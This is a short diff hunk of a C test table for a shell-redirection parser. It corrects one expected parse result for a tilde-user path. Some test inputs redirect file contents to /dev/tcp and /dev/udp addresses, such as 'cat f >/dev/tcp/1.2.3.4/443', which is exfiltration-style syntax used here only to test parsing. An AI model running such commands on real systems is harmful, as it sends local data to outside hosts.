@@ -46,7 +46,7 @@ static const struct row redirs[] = {
 	{ "a 2>&1 >&2 <&3 >&- 2>&f >&f >&$x 1>&$x 2>&$x >&3-",
 	  "a ; file w f <1 ; file w ? <1 ; file w ? <1" },
 	{ "a >\"$x\" >~/b >~ >b* >~u/c >\"b c\" >''",
-	  "a ; file w ? <1 ; file w ~/b <1 ; file w ~ <1 ; file w ? <1 ; file w ? <1 "
+	  "a ; file w ? <1 ; file w ~/b <1 ; file w ~ <1 ; file w ? <1 ; file w ~/c <1 "
 	  "; file w b c <1 ; file w  <1" },
 	{ "cat f >/dev/tcp/1.2.3.4/443; cat </dev/udp/h/$p >/dev/tcp/$h/80 >/dev/tcp/"
 	  "x >/dev/tcp/h/http",
